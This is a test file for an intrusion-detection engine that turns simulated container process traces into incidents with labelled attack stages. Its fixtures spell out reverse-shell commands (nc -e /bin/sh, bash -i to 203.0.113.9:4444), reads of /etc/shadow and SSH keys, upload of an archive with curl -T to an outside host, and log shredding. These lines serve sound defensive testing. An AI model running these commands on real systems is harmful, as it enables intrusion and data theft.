import { describe, expect, it } from 'vitest';
import { detect } from '../../src/detections/engine.js';
import { type Scenario, scenario } from '../../src/detections/scenario.js';
import { caseOfScenario } from '../../src/detections/scenario-case.js';
import type { Incident } from '../../src/model/finding.js';
import { recording } from '../recordings.js';
import { detectIn } from './detect-in.js';

const judge = (drawn: Scenario) => detect(caseOfScenario(drawn));
const incidentsIn = (drawing: string): readonly Incident[] => judge(scenario('incident', drawing)).incidents;

/** `place stage summary` of each step, the summary cut. */
const told = (incident: Incident | undefined): readonly string[] =>
  (incident?.steps ?? []).map((step) => `${step.place} ${step.stage} ${step.summary}`);

const INTRUSION = `
  container web 10.0.0.10
  0       node server.js
  0.1       listen tcp 8000
  1199.9    < tcp 198.51.100.7:50000 on 8000
  1200      bash -c "…"
  1200.01     fork
  1200.02       > tcp 203.0.113.9:4444
  1200.03       => bash -i
  1201          id
  1202          cat /etc/shadow
  1203          curl -s http://10.0.0.20:8000/?c=…
  1203.1          > tcp 10.0.0.20:8000
  1230          tar czf /tmp/.x.tgz /srv
  1240          curl -T /tmp/.x.tgz http://203.0.113.9/
  1240.1          > tcp 203.0.113.9:80
  1250          rm -f /tmp/.x.tgz
  container resumes 10.0.0.20
  0       php -S 0.0.0.0:8000
  0.1       listen tcp 8000
  1203.15   < tcp 10.0.0.10:40000 on 8000
  1203.2    sh -c "python3 -c …"
  1203.3      python3 -c "…"
  1203.6        > tcp 203.0.113.9:9001
  1203.7        /bin/sh -i
  1210            whoami
`;

describe('an intrusion over two containers', () => {
  const [incident, ...others] = incidentsIn(INTRUSION);

  it('is one incident of all its findings, as severe as the worst', () => {
    expect(others).toEqual([]);
    const { findings } = judge(scenario('incident', INTRUSION));
    expect(incident?.findings).toEqual(findings.map((finding) => finding.id));
    expect(incident?.level).toBe('critical');
    expect(incident?.title).toBe('Intrusion in web, then resumes, commanded from 203.0.113.9:4444: secrets read, data sent out');
  });

  it('goes from the call that let somebody in to the last trace removed, by time', () => {
    expect(incident?.steps.map((step) => `${step.place} ${step.stage}`)).toEqual([
      'web entry',
      'web shell',
      'web discovery',
      'web credential',
      'resumes lateral',
      'resumes shell',
      'resumes discovery',
      'web collection',
      'web exfiltration',
      'web cleanup',
    ]);
    const times = incident?.steps.map((step) => step.timeUs ?? 0) ?? [];
    expect(times).toEqual(times.toSorted((a, b) => a - b));
  });

  it('names the first cause with what it was doing just before', () => {
    expect(told(incident)[0]).toContain('node server.js (pid 100) answered 198.51.100.7:50000; 100ms later it started bash -c');
  });

  it('has evidence and a process for every step', () => {
    for (const step of incident?.steps ?? []) {
      expect(step.evidence.length, step.summary).toBeGreaterThan(0);
      expect(step.process.execId).not.toBe('');
    }
  });

  it('is the same each time, and keeps its id when more becomes known of it', () => {
    expect(incidentsIn(INTRUSION)).toEqual([incident]);
    const more = INTRUSION.replace('1202          cat', '1201.5        ps aux\n  1202          cat');
    expect(incidentsIn(more)[0]?.id).toBe(incident?.id);
    expect(incidentsIn(more)[0]?.steps).toHaveLength((incident?.steps.length ?? 0) + 1);
  });
});

const shellIn = (name: string, address: string, second: number): string => `
  container ${name}
  0       node server.js
  ${second}      nc host 4444 -e /bin/sh
  ${second}.1      > tcp ${address}:4444
  ${second}.2      => /bin/sh
`;

describe('findings belong together', () => {
  it('when one address outside commands both shells', () => {
    expect(incidentsIn(shellIn('web', '203.0.113.9', 1200) + shellIn('shop', '203.0.113.9', 5000))).toHaveLength(1);
  });

  it('when they lie in one container, minutes apart', () => {
    const twice = shellIn('web', '203.0.113.9', 1200) + shellIn('web', '198.51.100.7', 1500).split('\n').slice(3).join('\n');
    expect(incidentsIn(twice)).toHaveLength(1);
  });

  it('not when only the kind of attack is the same', () => {
    const [first, second, ...more] = incidentsIn(shellIn('web', '203.0.113.9', 1200) + shellIn('shop', '198.51.100.7', 1201));
    expect(more).toEqual([]);
    expect(first?.id).not.toBe(second?.id);
  });

  it('not with an administrator who enters the same container meanwhile', () => {
    const drawing = `${shellIn('web', '203.0.113.9', 1200)}  1210    bash {entered}\n  1211      ps aux\n`;
    const { findings, incidents } = judge(scenario('entered', drawing));
    expect(findings).toHaveLength(2);
    expect(incidents.map((incident) => incident.findings)).toEqual([[findings[0]?.id]]);
  });
});

describe('a step', () => {
  const within = (rows: string): readonly string[] =>
    told(
      incidentsIn(`
  container web 10.0.0.10
  0       node server.js
  1200      nc host 4444 -e /bin/sh
  1200.1      > tcp 203.0.113.9:4444
  1200.2      => /bin/sh
${rows}`)[0],
    ).slice(2);

  it('stands for many tries of one program at other ports', () => {
    const tries = Array.from(
      { length: 12 },
      (_, at) => `  12${at + 10}        nc -z 10.0.0.${at} 22\n  12${at + 10}.1        > tcp 10.0.0.${at}:22`,
    );
    expect(within(tries.join('\n'))).toEqual(['web discovery nc tried 12 ports of 12 addresses, from 10.0.0.0 on']);
  });

  it.each([
    ['cat /root/.ssh/id_rsa', 'credential'],
    ['ls -la /root/.ssh', 'discovery'],
    ['cat /etc/os-release', 'discovery'],
    ['pg_dump shop', 'collection'],
    ['tar czf /tmp/x.tgz /srv', 'collection'],
    ['tar xzf /tmp/tools.tgz', 'execution'],
    ['crontab -', 'persistence'],
    ['nsenter -t 1 -a', 'escalation'],
    ['shred -u /var/log/app.log', 'cleanup'],
    ['/tmp/miner --pool x', 'execution'],
    ['bash -i', 'shell'],
  ])('%s is %s', (line, stage) => {
    expect(within(`  1210        ${line}`).map((text) => text.split(' ')[1])).toEqual([stage]);
  });

  it.each(['sleep 5', 'head -3', 'grep x'])('is not made of %s, which only waits or passes text on', (line) => {
    expect(within(`  1210        ${line}`)).toEqual([]);
  });

  it('is read from the files that were opened, whatever the program is called', () => {
    expect(within('  1210        /opt/tool\n  1210.1        read /root/.ssh/id_rsa')).toEqual([
      'web credential tool opened /root/.ssh/id_rsa',
    ]);
    expect(within('  1210        /opt/tool\n  1210.1        write /etc/cron.d/x')).toEqual(['web persistence tool wrote /etc/cron.d/x']);
  });

  it('tells what the shell itself contacts', () => {
    expect(within('  1210        > tcp 10.0.0.30:6379')).toEqual(['web lateral sh connected to 10.0.0.30:6379']);
  });
});

describe('a case without a serious finding', () => {
  it('has no incident', () => {
    const { findings, incidents } = judge(scenario('entered', '\n  container web\n  0   node server.js\n  1200  bash -i {entered}'));
    expect(findings.length).toBeGreaterThan(0);
    expect(incidents).toEqual([]);
  });
});

// Needs the folder of recordings beside the project, and skips itself without it.
describe.skipIf(recording('range/') === undefined)('the recorded attack on an application', () => {
  it.each(['tetragon', 'tetragon-k8s', 'tetragon-enterprise'])('is one incident from the feed to the upload: %s', async (form) => {
    const { findings, incidents } = await detectIn(recording(`range/jobs-app/${form}.jsonl.gz`) ?? '');
    const [incident, ...others] = incidents;
    expect(others).toEqual([]);
    const innocent = new Set(['late-execution', 'regular-calls', 'unusual-client']);
    expect(incident?.findings).toEqual(findings.filter((finding) => !innocent.has(finding.rule.id)).map((finding) => finding.id));
    const stageOf = (text: string): string | undefined => incident?.steps.find((step) => step.summary.includes(text))?.stage;
    expect([
      stageOf('203.0.113.10:80'),
      stageOf('ss -tnp'),
      stageOf('cat /var/run/secrets'),
      stageOf('nc.traditional tried 54 ports'),
      stageOf('/jobs/_search'),
      stageOf(', then sh -i'),
      stageOf('cat /etc/shadow'),
      stageOf('gzip -c'),
      stageOf('curl -s -T'),
      stageOf('rm -f /tmp/.c.gz'),
    ]).toEqual([
      'entry',
      'discovery',
      'credential',
      'discovery',
      form === 'tetragon-enterprise' ? 'collection' : 'lateral',
      'lateral',
      'credential',
      'collection',
      'exfiltration',
      'cleanup',
    ]);
  });

  it.each(['tetragon', 'tetragon-enterprise'])('and ten minutes without an attack are none: %s', async (form) => {
    expect((await detectIn(recording(`range/benign/${form}.jsonl.gz`) ?? '')).incidents).toEqual([]);
  });
});
